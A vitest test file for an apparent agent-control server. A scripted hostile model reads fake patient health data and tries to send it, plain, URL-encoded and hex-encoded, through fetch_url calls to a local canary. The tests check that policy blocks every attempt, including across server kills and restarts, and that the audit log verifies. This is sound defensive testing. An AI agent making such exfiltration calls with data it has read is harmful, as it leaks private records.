import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { verifyAudit } from '../../src/main/verify-audit.ts'
import { type RunningServer, startServer, temporaryFolder } from '../support/start-server.ts'
import { type Canary, startCanary } from './canary.ts'
import { type HostileModel, type HostileScript, startHostileModel } from './hostile-model.ts'

// The server as it is started, through its own API only.

const data = 'Jane Roe, born 1980-02-03, has diabetes'
let folder: ReturnType<typeof temporaryFolder>
let model: HostileModel
let canary: Canary
const servers: RunningServer[] = []
beforeEach(async () => {
  folder = temporaryFolder()
  model = await startHostileModel()
  canary = await startCanary()
})
afterEach(async () => {
  for (const server of servers.splice(0)) await server.stop('SIGKILL')
  await model.close()
  await canary.close()
  folder.remove()
})

async function start(): Promise<RunningServer> {
  const models = join(folder.path, 'models.json')
  const price = { input_micros_usd_per_million_tokens: 0, output_micros_usd_per_million_tokens: 0 }
  const provider = { name: 'hostile', kind: 'openai-compatible', base_url: model.url, default_model: 'h', price }
  writeFileSync(models, JSON.stringify({ providers: [provider], default: { provider: 'hostile', model: 'h' } }))
  const server = await startServer(join(folder.path, 'data'), {
    MANDATE_MODELS: models,
    MANDATE_ALLOW_PRIVATE_NETWORK: '1',
  })
  servers.push(server)
  return server
}

async function json<T>(answer: Promise<Response>): Promise<T> {
  const response = await answer
  const text = await response.text()
  if (!response.ok) throw new Error(`${response.status} ${text}`)
  return JSON.parse(text) as T
}

/** An agent whose rules label what lies in `patients`, under a policy that closes the network to that. */
async function addAgent(server: RunningServer): Promise<string> {
  const read = (ending: string) => readFileSync(new URL(`../../policies/default.${ending}`, import.meta.url), 'utf8')
  const document = { ...JSON.parse(read('json')), name: 'clinic', title: 'Clinic', closed_sinks: { phi: ['network'] } }
  await json(server.call('POST', '/v1/policies', { document, cedar: read('cedar') }))
  const { id } = await json<{ id: string }>(
    server.call('POST', '/v1/agents', {
      name: 'clinic',
      tools: ['read_file', 'write_file', 'fetch_url'],
      capabilities: ['*'],
      policy: 'clinic',
      path_labels: [{ path: 'patients/**', labels: ['phi'] }],
    }),
  )
  return id
}

interface Listed {
  readonly events: readonly { readonly type: string; readonly data: Readonly<Record<string, unknown>> }[]
}

const read = { tool: 'read_file', args: { path: 'patients/p1.txt' } }
const sinks = () =>
  ['', encodeURIComponent(data), Buffer.from(data).toString('hex')].map((query) => ({
    tool: 'fetch_url',
    args: { url: `http://127.0.0.1:${canary.port}/?${query}` },
  }))

async function submit(server: RunningServer, agent: string, script: HostileScript): Promise<string> {
  const files = [{ path: 'patients/p1.txt', content: data }]
  const body = { input: model.play(script), agent_id: agent, files }
  return (await json<{ id: string }>(server.call('POST', '/v1/tasks', body))).id
}

async function expectClosed(server: RunningServer, id: string): Promise<void> {
  const { state } = await json<{ state: string }>(server.call('GET', `/v1/tasks/${id}?wait=30`))
  expect(state).toBe('blocked')
  expect(canary.take()).toBe('')
  const { events } = await json<Listed>(server.call('GET', `/v1/tasks/${id}/events?limit=200`))
  const denied = events.filter(({ type, data: facts }) => type === 'action.decided' && facts['answer'] === 'deny')
  expect(denied.map(({ data: facts }) => facts['rules'])).toEqual(Array(3).fill(['sink_closed:phi']))
  const exported = await server.call('GET', `/v1/tasks/${id}/audit`)
  const keys = await json<{ keys: { key_id: string }[] }>(server.call('GET', '/.well-known/mandate-keys.json'))
  const pinned = keys.keys.map(({ key_id }) => key_id)
  const verification = await verifyAudit(new Uint8Array(await exported.arrayBuffer()), pinned)
  expect(verification).toMatchObject({ verdict: 'valid' })
}

test('a started server closes the network to a run that has read labelled data', async () => {
  const server = await start()
  const agent = await addAgent(server)
  const id = await submit(server, agent, (request) => {
    if (request === 1) return { calls: [read] }
    return request === 2 ? { calls: sinks() } : { text: 'done' }
  })
  await expectClosed(server, id)
})

test('a kill between the read and the sink takes no label away', async () => {
  const server = await start()
  const agent = await addAgent(server)
  const told = Promise.withResolvers<void>()
  const never = new Promise<never>(() => undefined)
  const id = await submit(server, agent, (request) => {
    if (request === 1) return { calls: [read] }
    if (request > 2) return request === 3 ? { calls: sinks() } : { text: 'done' }
    told.resolve()
    return never
  })
  await told.promise
  expect(model.toldOf('attack-1-of-a-test').at(-1)).toContain(data)
  await server.stop('SIGKILL')
  await expectClosed(await start(), id)
})

test('a server that is asked to stop hands the run back with its labels', async () => {
  const server = await start()
  const agent = await addAgent(server)
  const told = Promise.withResolvers<void>()
  const released = Promise.withResolvers<void>()
  const id = await submit(server, agent, async (request) => {
    if (request === 1) return { calls: [read] }
    if (request > 2) return request === 3 ? { calls: sinks() } : { text: 'done' }
    told.resolve()
    await released.promise
    return { calls: [{ tool: 'write_file', args: { path: 'copy.txt', content: data } }] }
  })
  await told.promise
  const stopped = server.stop('SIGTERM')
  released.resolve()
  await stopped
  await expectClosed(await start(), id)
})
